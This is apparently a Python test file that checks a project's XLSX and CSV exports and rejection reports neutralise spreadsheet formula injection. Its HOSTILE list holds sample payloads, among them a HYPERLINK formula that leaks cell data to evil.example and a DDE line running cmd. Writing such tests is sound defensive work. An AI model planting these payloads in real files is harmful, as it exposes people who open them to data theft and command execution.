"""Formula injection: text that a spreadsheet could run comes out of every export as text."""

import csv
import io

import openpyxl
from hypothesis import given
from hypothesis import strategies as st

from spotcheck.common.safe_cells import FORMULA_TRIGGERS, formula_safe
from spotcheck.imports.rejections import Rejection
from spotcheck.imports.report import write_rejections_report
from tests.factories import EntityFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@given(st.text())
def test_no_safe_text_starts_like_a_formula_and_nothing_is_lost(text):
    safe = formula_safe(text)
    assert not safe.startswith(FORMULA_TRIGGERS)
    assert safe in (text, "'" + text)
    if text.startswith(FORMULA_TRIGGERS):
        assert safe == "'" + text


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.dates()))
def test_numbers_and_dates_stay_as_they_are(value):
    assert formula_safe(value) == value


def _no_formula_in(workbook_bytes: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    return [cell.value for cell in cells]


def test_the_entity_export_writes_hostile_names_as_text(client_for, office_admin_wang, market_dept):
    for name in HOSTILE:
        EntityFactory(name=name, departments=[market_dept])
    client = client_for(office_admin_wang)
    xlsx = client.get("/directory/entities/", {"export": "xlsx"})
    values = _no_formula_in(b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content)
    assert {"'" + name for name in HOSTILE} <= set(values)
    response = client.get("/directory/entities/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    names = {row[2] for row in csv.reader(io.StringIO(text))}
    assert {"'" + name for name in HOSTILE} <= names


def test_the_rejected_rows_report_writes_hostile_cells_as_text(tmp_path):
    rejections = [Rejection(row=2, column="A", header="名称", value=v, reason="x") for v in HOSTILE]
    path = write_rejections_report(rejections, tmp_path / "report.xlsx")
    values = _no_formula_in(path.read_bytes())
    assert {"'" + value for value in HOSTILE} <= set(values)
